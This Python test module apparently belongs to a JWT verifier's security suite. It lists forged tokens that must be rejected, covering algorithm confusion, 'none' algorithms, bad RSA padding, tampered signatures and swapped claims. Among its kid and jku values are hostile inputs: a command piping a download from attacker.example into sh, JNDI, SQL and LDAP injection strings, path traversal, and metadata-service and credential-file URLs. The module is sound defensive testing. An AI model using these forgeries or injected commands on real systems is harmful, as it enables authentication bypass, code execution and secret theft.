"""Algorithms, header parameters and signatures that must not make a token good."""

from __future__ import annotations

import json
from base64 import b64encode
from collections.abc import Callable
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.attacks.forging import (
    SHA256_INFO,
    b64,
    by_ec,
    by_hmac,
    by_rsa,
    digest_of,
    encoded_message,
    good_header,
    parts_of,
    raw_rsa,
    unb64,
    unsigned,
    with_signature,
)
from tests.attacks.stage import OUR_KID, Attack, Scene, bearer, jwk_of, new_rsa_key

FORGERS_KEY = new_rsa_key()


def _attack(
    name: str, source: str, reason: str, token: Callable[[Scene], str], needs_no_key: bool = True
) -> Attack:
    return Attack(name, source, reason, lambda scene: bearer(token(scene)), needs_no_key=needs_no_key)


# -- the algorithm -------------------------------------------------------------------------------


def _alg(name: str, source: str, alg: Any) -> Attack:
    """Signed well, with a key that is known, under another algorithm's name."""
    return _attack(
        f"alg {name}",
        source,
        "wrong_algorithm",
        lambda scene: by_rsa(scene, good_header(scene, alg=alg)),
    )


def _without_signature(alg: Any) -> Callable[[Scene], str]:
    return lambda scene: unsigned(good_header(scene, alg=alg), scene.claims()) + "."


def _public_key(encoding: Encoding, form: PublicFormat) -> Callable[[Scene], bytes]:
    return lambda scene: scene.mine.public_key().public_bytes(encoding, form)


def _confused(name: str, source: str, secret: Callable[[Scene], bytes], alg: str = "HS256") -> Attack:
    """HMAC with what everybody may know: algorithm confusion."""
    reason = "bad_signature" if alg == "RS256" else "wrong_algorithm"
    return _attack(
        f"HMAC with {name}",
        source,
        reason,
        lambda scene: by_hmac(secret(scene), good_header(scene, alg=alg), scene.claims()),
        needs_no_key=alg != "RS256",
    )


_PEM = _public_key(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
_PKCS1 = _public_key(Encoding.PEM, PublicFormat.PKCS1)
_DER = _public_key(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
_SSH = _public_key(Encoding.OpenSSH, PublicFormat.OpenSSH)

ALGORITHMS = [
    *(
        _attack(f"no signature and alg {alg!r}", source, "wrong_algorithm", _without_signature(alg))
        for alg, source in (
            ("none", "RFC 8725, 2.1 and 3.2; CVE-2015-9235; Wycheproof AlgIsNone"),
            ("None", "RFC 8725, 2.1; CVE-2026-28802 (Authlib)"),
            ("NONE", "RFC 8725, 2.1; CVE-2022-23540 (jsonwebtoken)"),
            ("nOnE", "RFC 8725, 2.1"),
            ("none ", "RFC 8725, 2.1"),
            ("", "RFC 8725, 3.1"),
            (None, "RFC 7515, 4.1.1"),
            (..., "RFC 7515, 4.1.1: alg must be present"),
        )
    ),
    _attack(
        "alg none over a good signature",
        "RFC 8725, 2.1",
        "wrong_algorithm",
        lambda scene: by_rsa(scene, good_header(scene, alg="none")),
    ),
    *(
        _alg(alg, source, alg)
        for alg, source in (
            ("HS256", "RFC 8725, 2.1 and 3.1; CVE-2022-29217 (PyJWT)"),
            ("HS384", "RFC 8725, 3.1"),
            ("HS512", "RFC 8725, 3.1"),
            ("RS384", "RFC 8725, 3.1: one algorithm for each key; CVE-2026-48523 (PyJWT)"),
            ("RS512", "RFC 8725, 3.1; aws-jwt-verify: JWT alg different from JWK alg"),
            ("PS256", "RFC 8725, 3.1; Wycheproof WrongPrimitive UsingPS256"),
            ("PS384", "RFC 8725, 3.1"),
            ("PS512", "RFC 8725, 3.1"),
            ("ES256", "RFC 8725, 3.1; CVE-2024-33663 (python-jose)"),
            ("ES384", "RFC 8725, 3.1"),
            ("ES512", "RFC 8725, 3.1"),
            ("ES256K", "RFC 8725, 3.1"),
            ("EdDSA", "RFC 8725, 3.1"),
            ("Ed25519", "RFC 8725, 3.1"),
            ("RS1", "RFC 8725, 3.2"),
            ("RSA-OAEP", "RFC 7518, 4.1: an algorithm for encryption"),
            ("RSA1_5", "RFC 8725, 3.2"),
            ("dir", "RFC 7518, 4.1"),
            ("A256GCMKW", "RFC 7518, 4.1"),
            ("PBES2-HS256+A128KW", "CVE-2022-36083 (jose), CVE-2023-31582 (jose4j)"),
            ("rs256", "RFC 7515, 4.1.1: case matters"),
            ("Rs256", "RFC 7515, 4.1.1"),
            ("RS256 ", "RFC 8725, 3.1"),
            (" RS256", "RFC 8725, 3.1"),
            ("RS256\x00", "RFC 8725, 3.1"),
            ("RS256\n", "RFC 8725, 3.1"),
            ("RS256,none", "RFC 8725, 3.1"),
            ("RS\uff12\uff15\uff16", "RFC 8725, 3.1: full-width digits"),
            ("\u0280S256", "RFC 8725, 3.1: a small capital R"),
        )
    ),
    *(
        _alg(name, "RFC 7515, 4.1.1: alg is text; aws-jwt-verify: alg that is not a string", alg)
        for name, alg in (
            ("a list", ["RS256"]),
            ("an object", {"RS256": True}),
            ("a number", 256),
            ("true", True),
            ("null", None),
        )
    ),
    _attack(
        "alg under another case of its name",
        "RFC 7515, 4: names are compared as they are",
        "wrong_algorithm",
        lambda scene: by_rsa(scene, {"kid": OUR_KID, "ALG": "RS256"}),
    ),
    _confused("the public key in PEM", "RFC 8725, 2.1; CVE-2016-10555; Wycheproof", _PEM),
    _confused("the public key in PEM of PKCS 1", "CVE-2017-11424 (PyJWT)", _PKCS1),
    _confused(
        "the public key in OpenSSH's form", "CVE-2022-29217 (PyJWT), CVE-2024-33663 (python-jose)", _SSH
    ),
    _confused("the public key in DER", "RFC 8725, 2.1", _DER),
    _confused("the PEM without its last line end", "CVE-2016-10555", lambda scene: _PEM(scene).strip()),
    _confused("the PEM's lines", "CVE-2024-37568 (Authlib)", lambda scene: _PEM(scene) + b"\n"),
    _confused(
        "the JWK",
        "CVE-2024-33663 (python-jose)",
        lambda scene: json.dumps(jwk_of(scene.mine, OUR_KID)).encode(),
    ),
    _confused(
        "the modulus", "RFC 8725, 2.1", lambda scene: unb64(jwk_of(scene.mine, OUR_KID)["n"]), alg="HS256"
    ),
    _confused("no secret at all", "RFC 8725, 3.5; PyJWT 2.13.0: an empty key", lambda scene: b""),
    _confused("the kid", "GHSA-869p-cjfg-cm3x (node-jws)", lambda scene: OUR_KID.encode()),
    _confused("the public key in PEM under RS256", "RFC 8725, 3.1", _PEM, alg="RS256"),
    _confused("no secret under RS256", "RFC 8725, 3.1", lambda scene: b"", alg="RS256"),
    _attack(
        "ES256 by a key of the forger",
        "RFC 8725, 3.1; CVE-2022-21449: any signature",
        "wrong_algorithm",
        lambda scene: by_ec(scene, good_header(scene, alg="ES256"), scene.claims()),
    ),
    _attack(
        "ES256 with a signature of zeros",
        "CVE-2022-21449; Wycheproof rIsZero_sIsZero",
        "wrong_algorithm",
        lambda scene: with_signature(unsigned(good_header(scene, alg="ES256"), scene.claims()), bytes(64)),
    ),
    _attack(
        "an ECDSA signature under RS256",
        "RFC 8725, 3.1",
        "bad_signature",
        lambda scene: by_ec(scene, good_header(scene), scene.claims()),
        needs_no_key=False,
    ),
    *(
        _attack(
            f"a signature of {name} under RS256",
            "RFC 8725, 3.1; Wycheproof WrongPrimitive",
            "bad_signature",
            lambda scene, sha=sha, pss=pss: by_rsa(scene, good_header(scene), sha=sha, pss=pss),
            needs_no_key=False,
        )
        for name, sha, pss in (
            ("RS384", "384", False),
            ("RS512", "512", False),
            ("RS1", "1", False),
            ("PS256", "256", True),
            ("PS384", "384", True),
            ("PS512", "512", True),
        )
    ),
]

# -- header parameters ---------------------------------------------------------------------------


def _by_forger(scene: Scene, **members: Any) -> str:
    """Signed by the attacker's own key."""
    return scene.pool.sign(scene.claims(), headers=good_header(scene, **members), key=FORGERS_KEY)


def _parameter(name: str, source: str, member: Callable[[Scene], dict[str, Any]]) -> Attack:
    """A header that brings the forger's key, or says where it is, under a kid that is known."""
    return _attack(
        name, source, "bad_signature", lambda scene: _by_forger(scene, **member(scene)), needs_no_key=False
    )


def _kid(name: str, kid: str, source: str = "RFC 8725, 3.10") -> Attack:
    """A kid that somebody might look up; no service of ours knows it."""
    return _attack(
        f"kid {name}", source, "unknown_key", lambda scene: _by_forger(scene, kid=kid), needs_no_key=False
    )


def _no_kid(name: str, kid: Any) -> Attack:
    return _attack(
        f"kid {name}",
        "RFC 7515, 4.1.4: kid is text; aws-jwt-verify: kid is not a string",
        "malformed",
        lambda scene: by_rsa(scene, good_header(scene, kid=kid)),
    )


def _crit(name: str, crit: Any, **members: Any) -> Attack:
    """Signed well: only that it has critical extensions makes it bad."""
    return _attack(
        f"crit {name}",
        "RFC 7515, 4.1.11; CVE-2025-59420 (Authlib); CVE-2026-32597 (PyJWT)",
        "malformed",
        lambda scene: by_rsa(scene, good_header(scene, crit=crit, **members)),
    )


def _unencoded(scene: Scene) -> str:
    """Signed over the payload as it is, as RFC 7797 has it, but without ``crit``."""
    header = b64(json.dumps(good_header(scene, b64=False)).encode())
    payload = json.dumps(scene.claims())
    signature = by_rsa(scene, good_header(scene)).rpartition(".")[2]
    return f"{header}.{b64(payload.encode())}.{signature}"


PARAMETERS = [
    _parameter(
        "jwk with the forger's key",
        "RFC 8725, 3.10; CVE-2018-0114 (node-jose); CVE-2026-27962 (Authlib); "
        "Wycheproof AttackerProvidedEmbeddedJwk",
        lambda scene: {"jwk": jwk_of(FORGERS_KEY, OUR_KID)},
    ),
    _parameter("jwk that is text", "RFC 7515, 4.1.3", lambda scene: {"jwk": "x"}),
    _parameter(
        "jku of the forger's server",
        "RFC 8725, 3.10; RFC 7515, 4.1.2",
        lambda scene: {"jku": scene.elsewhere.jwks_url},
    ),
    _parameter("jku of a file", "RFC 8725, 3.10", lambda scene: {"jku": "file:///etc/passwd"}),
    _parameter(
        "jku of the cloud's metadata service",
        "RFC 8725, 3.10: server-side request forgery",
        lambda scene: {"jku": "http://169.254.169.254/latest/meta-data/"},
    ),
    _parameter(
        "jku that begins with the issuer",
        "RFC 8725, 3.10",
        lambda scene: {"jku": scene.pool.issuer + "@" + scene.elsewhere.url},
    ),
    _parameter(
        "x5u of the forger's server", "RFC 7515, 4.1.5", lambda scene: {"x5u": scene.elsewhere.url + "/x.pem"}
    ),
    _parameter("x5c of nonsense", "RFC 7515, 4.1.6", lambda scene: {"x5c": [b64encode(b"x" * 64).decode()]}),
    _parameter(
        "x5c with the forger's key",
        "RFC 7515, 4.1.6",
        lambda scene: {
            "x5c": [
                b64encode(
                    FORGERS_KEY.public_key().public_bytes(
                        Encoding.DER, PublicFormat.SubjectPublicKeyInfo
                    )
                ).decode()
            ]
        },
    ),
    _parameter("x5t of nonsense", "RFC 7515, 4.1.7", lambda scene: {"x5t": "AAAA", "x5t#S256": "AAAA"}),
    _parameter("iss in the header", "RFC 7519, 5.3", lambda scene: {"iss": scene.elsewhere.issuer}),
    _parameter("typ of another kind", "RFC 8725, 3.11", lambda scene: {"typ": "secevent+jwt"}),
    _parameter(
        "the forger's key and nothing else", "RFC 8725, 3.3; Wycheproof ModifiedSignature", lambda scene: {}
    ),
    _attack(
        "the forger's key under the other key's kid",
        "RFC 8725, 3.3",
        "bad_signature",
        lambda scene: scene.pool.sign(scene.claims(), headers={"kid": scene.first_kid}, key=FORGERS_KEY),
        needs_no_key=False,
    ),
    _attack(
        "a key of the pool under the kid of another of its keys",
        "RFC 7515, 4.1.4",
        "bad_signature",
        lambda scene: scene.pool.sign(scene.claims(), headers={"kid": scene.first_kid}),
        needs_no_key=False,
    ),
    _attack(
        "b64 false without crit, over another signature",
        "RFC 7797, 6; CVE-2026-48525 (PyJWT)",
        "malformed",
        _unencoded,
    ),
    *(
        _attack(
            f"b64 {name} without crit",
            "RFC 7797, 6 and 7: no JWT has it",
            "malformed",
            lambda scene, value=value: by_rsa(scene, good_header(scene, b64=value)),
        )
        for name, value in (("false", False), ("null", None), ("zero", 0), ("text", "false"), ("a list", []))
    ),
    _kid("of another pool", "another pool's", "RFC 8725, 2.8: cross-JWT confusion"),
    _kid("that is a path", "../../../../dev/null"),
    _kid("that is a path with NUL", "/dev/null\x00.pem"),
    _kid("that is a file's URL", "file:///proc/self/environ"),
    _kid("that is SQL", "x' UNION SELECT 'secret' -- "),
    _kid("that is a shell's command", "x; curl attacker.example | sh"),
    _kid("that is a template", "{{7*7}}${jndi:ldap://attacker.example/a}"),
    _kid("that is LDAP", "*)(uid=*))(|(uid=*"),
    _kid("with line ends, as a log might take them", "x\r\nSet-Cookie: a=b\r\n\r\nRefused: nobody"),
    _kid("with a terminal's escapes", "\x1b[2J\x1b]0;owned\x07"),
    _kid("that begins like a known one", OUR_KID + "x", "RFC 7515, 4.1.4: compared as text"),
    _kid("that is the beginning of a known one", OUR_KID[:-1], "RFC 7515, 4.1.4"),
    _kid("in another case", OUR_KID.upper(), "RFC 7515, 4.1.4: case-sensitive"),
    _kid("with a space behind", OUR_KID + " ", "RFC 7515, 4.1.4"),
    _kid("with a homoglyph", OUR_KID.replace("e", "\u0435"), "RFC 8725, 2.4; UTS 39"),
    _kid("that is a lone surrogate", "\ud800", "RFC 8259, 8.2"),
    _kid("that is no attribute of ours", "__class__"),
    _no_kid("absent", ...),
    _no_kid("null", None),
    _no_kid("empty", ""),
    _no_kid("a number", 7),
    _no_kid("true", True),
    _no_kid("a list of the known one", [OUR_KID]),
    _no_kid("an object", {"kid": OUR_KID}),
    _no_kid("of 257 characters", "k" * 257),
    _no_kid("of 5000 characters", "k" * 5000),
    _crit("that names an extension", ["http://example.invalid/UNDEFINED"]),
    _crit("as in RFC 7515, appendix E", ["http://example.invalid/UNDEFINED"], **{
        "http://example.invalid/UNDEFINED": True
    }),
    _crit("that names a claim", ["exp"], exp=1),
    _crit("that names b64", ["b64"], b64=False),
    _crit("that names b64, which is true", ["b64"], b64=True),
    _crit("that names alg, which it must not", ["alg"]),
    _crit("that names crit itself", ["crit"]),
    _crit("that names the same twice", ["exp", "exp"], exp=1),
    _crit("that is empty", []),
    _crit("that is null", None),
    _crit("that is false", False),
    _crit("that is zero", 0),
    _crit("that is text", "exp"),
    _crit("that is empty text", ""),
    _crit("that is an object", {"exp": 1}),
    _crit("that holds numbers", [1]),
]  # fmt: skip

# -- the signature itself ------------------------------------------------------------------------


def _signature(name: str, source: str, change: Callable[[Scene, str], bytes]) -> Attack:
    """What stands as the signature of a good header and good claims."""

    def token(scene: Scene) -> str:
        text = unsigned(good_header(scene), scene.claims())
        return with_signature(text, change(scene, text))

    return _attack(name, source, "bad_signature", token, needs_no_key=False)


def _padded(name: str, source: str, message: Callable[[bytes], bytes]) -> Attack:
    """A signature of ours over a padding that is not the one padding (RFC 8017, section 8.2.2)."""
    return _signature(
        f"padding: {name}", source, lambda scene, text: raw_rsa(scene.mine, message(digest_of(text)))
    )


def _der(info: str) -> Callable[[bytes], bytes]:
    return lambda digest: encoded_message(bytes.fromhex(info), digest)


def _real(scene: Scene, text: str) -> bytes:
    return raw_rsa(scene.mine, encoded_message(SHA256_INFO, digest_of(text)))


def _modulus(scene: Scene) -> int:
    return scene.mine.public_key().public_numbers().n


def _number(signature: bytes) -> int:
    return int.from_bytes(signature, "big")


_WYCHEPROOF = "Wycheproof json_web_signature, ModifiedPadding; RFC 8017, 8.2.2"
_GARBAGE = bytes(range(1, 65))

SIGNATURES = [
    _padded("length in long form", _WYCHEPROOF, _der("308131300d060960864801650304020105000420")),
    _padded("inner length in long form", _WYCHEPROOF, _der("303230810d060960864801650304020105000420")),
    _padded("length with a leading zero", _WYCHEPROOF, _der("30820031300d060960864801650304020105000420")),
    _padded("length that overflows 32 bits", _WYCHEPROOF, _der("30850100000031300d0609608648016503040201"
                                                              "05000420")),
    _padded("length one too many", _WYCHEPROOF, _der("3032300d060960864801650304020105000420")),
    _padded("length one too few", _WYCHEPROOF, _der("3030300d060960864801650304020105000420")),
    _padded("indefinite length", _WYCHEPROOF, _der("3080300d060960864801650304020105000420")),
    _padded("no NULL in the algorithm", _WYCHEPROOF, _der("302f300b06096086480165030402010420")),
    _padded("something for NULL", _WYCHEPROOF, _der("3032300e06096086480165030402010101ff0420")),
    _padded("no DigestInfo", "RFC 8017, 9.2", lambda digest: encoded_message(b"", digest)),
    _padded("DigestInfo of SHA-1", "RFC 8725, 3.2", _der("3021300906052b0e03021a05000414")),
    _padded("DigestInfo of SHA-384", _WYCHEPROOF, _der("3041300d060960864801650304020205000430")),
    _padded("DigestInfo of SHA-512", _WYCHEPROOF, _der("3051300d060960864801650304020305000440")),
    _padded("DigestInfo of MD5", "RFC 8725, 3.2", _der("3020300c06082a864886f70d020505000410")),
    _padded(
        "garbage behind the digest", "CVE-2006-4339 (Bleichenbacher)",
        lambda digest: (b"\x00\x01" + b"\xff" * 8 + b"\x00" + SHA256_INFO + digest).ljust(256, b"\x07"),
    ),
    _padded(
        "garbage before DigestInfo", _WYCHEPROOF,
        lambda digest: encoded_message(_GARBAGE + SHA256_INFO, digest),
    ),
    _padded(
        "a filler that is not FF", _WYCHEPROOF,
        lambda digest: encoded_message(SHA256_INFO, digest, filler=b"\xfe"),
    ),
    _padded(
        "one filler byte that is not FF", _WYCHEPROOF,
        lambda digest: encoded_message(SHA256_INFO, digest).replace(b"\xff\x00", b"\xfe\x00", 1),
    ),
    _padded(
        "a filler that ends early", _WYCHEPROOF,
        lambda digest: encoded_message(SHA256_INFO, digest).replace(b"\xff" * 50, b"\xff" * 49 + b"\x00", 1),
    ),
    _padded(
        "block type 0", "RFC 8017, 9.2", lambda digest: b"\x00\x00" + encoded_message(SHA256_INFO, digest)[2:]
    ),
    _padded(
        "block type 2", "RFC 8017, 7.2.1",
        lambda digest: b"\x00\x02" + encoded_message(SHA256_INFO, digest)[2:],
    ),
    _padded(
        "no zero before DigestInfo", _WYCHEPROOF,
        lambda digest: encoded_message(SHA256_INFO, digest).replace(b"\xff\x00", b"\xff\xff", 1),
    ),
    _padded(
        "a digest of something else", "RFC 8725, 3.3", lambda digest: encoded_message(SHA256_INFO, bytes(32))
    ),
    _padded(
        "a digest that is cut off", _WYCHEPROOF, lambda digest: encoded_message(SHA256_INFO, digest[:-1])
    ),
    _padded(
        "a digest with a byte more", _WYCHEPROOF, lambda digest: encoded_message(SHA256_INFO, digest + b"\0")
    ),
    _signature("a signature of 0", "Wycheproof SignatureIs0", lambda scene, text: bytes(256)),
    _signature("a signature of 1", "Wycheproof SignatureIs1", lambda scene, text: bytes(255) + b"\x01"),
    _signature(
        "a signature of n - 1", "Wycheproof SignatureIsNsub1",
        lambda scene, text: (_modulus(scene) - 1).to_bytes(256, "big"),
    ),
    _signature(
        "a signature of n", "Wycheproof SignatureIsn",
        lambda scene, text: _modulus(scene).to_bytes(256, "big"),
    ),
    _signature(
        "a signature that is not reduced", "Wycheproof SignatureIsnotReduced",
        lambda scene, text: (_number(_real(scene, text)) + _modulus(scene)).to_bytes(257, "big"),
    ),
    _signature("a signature of ones", "RFC 8017, 8.2.2", lambda scene, text: b"\xff" * 256),
    _signature(
        "zeros before the signature", "Wycheproof prependingZerosToSignature",
        lambda scene, text: b"\0" + _real(scene, text),
    ),
    _signature(
        "zeros behind the signature", "Wycheproof appendingZerosToSignature",
        lambda scene, text: _real(scene, text) + b"\0",
    ),
    _signature(
        "a signature that is cut off", "Wycheproof truncatedSignature",
        lambda scene, text: _real(scene, text)[:-1],
    ),
    _signature(
        "a signature without its first byte", "Wycheproof truncatedSignature",
        lambda scene, text: _real(scene, text)[1:],
    ),
    _signature("an empty signature", "Wycheproof rejectsMissingSignature", lambda scene, text: b""),
    _signature("a signature of one byte", "RFC 8017, 8.2.2", lambda scene, text: b"\x01"),
    _signature("the signature twice", "RFC 8017, 8.2.2", lambda scene, text: _real(scene, text) * 2),
    _signature(
        "the signature backwards", "RFC 8017, 4.1", lambda scene, text: _real(scene, text)[::-1]
    ),
    _signature(
        "a signature with one bit changed", "Wycheproof rejectsModifiedSignature",
        lambda scene, text: (_number(_real(scene, text)) ^ 1).to_bytes(256, "big"),
    ),
    _signature(
        "a signature in hexadecimal", "RFC 7515, 2", lambda scene, text: _real(scene, text).hex().encode()
    ),
    _signature(
        "a signature over the claims alone", "RFC 7515, 5.1",
        lambda scene, text: _real(scene, text.rpartition(".")[2]),
    ),
    _signature(
        "a signature over the header alone", "RFC 7515, 5.1",
        lambda scene, text: _real(scene, text.partition(".")[0]),
    ),
    _signature(
        "a signature over what is not encoded", "RFC 7797, 3",
        lambda scene, text: _real(scene, text.partition(".")[0] + "." + json.dumps(scene.claims())),
    ),
    _signature(
        "the signature of another token", "RFC 8725, 3.3",
        lambda scene, text: unb64(parts_of(scene.pool.token())[2]),
    ),
    _signature("the message for the signature", "RFC 8017, 8.2",
               lambda scene, text: encoded_message(SHA256_INFO, digest_of(text))),
]  # fmt: skip

_swapped = ("RFC 8725, 3.3; Wycheproof rejectsModifiedPayload", "bad_signature")
SWAPS = [
    _attack(
        "the claims of another token", *_swapped,
        lambda scene: ".".join(
            [*parts_of(by_rsa(scene, good_header(scene)))[:1],
             b64(json.dumps(scene.claims(scope="admin/all")).encode()),
             parts_of(by_rsa(scene, good_header(scene)))[2]]
        ),
        needs_no_key=False,
    ),
    _attack(
        "the header with white space that was not signed", "Wycheproof rejectsModifiedHeader",
        "bad_signature",
        lambda scene: ".".join(
            [b64(json.dumps(good_header(scene), indent=1).encode()),
             *parts_of(by_rsa(scene, good_header(scene)))[1:]]
        ),
        needs_no_key=False,
    ),
    _attack(
        "claims that say the same in other words", "RFC 7515, 5.2", "bad_signature",
        lambda scene: ".".join(
            [parts_of(by_rsa(scene, good_header(scene)))[0],
             b64(json.dumps(scene.claims()).replace("shop", "\\u0073hop").encode()),
             parts_of(by_rsa(scene, good_header(scene)))[2]]
        ),
        needs_no_key=False,
    ),
]  # fmt: skip

ATTACKS = [*ALGORITHMS, *PARAMETERS, *SIGNATURES, *SWAPS]
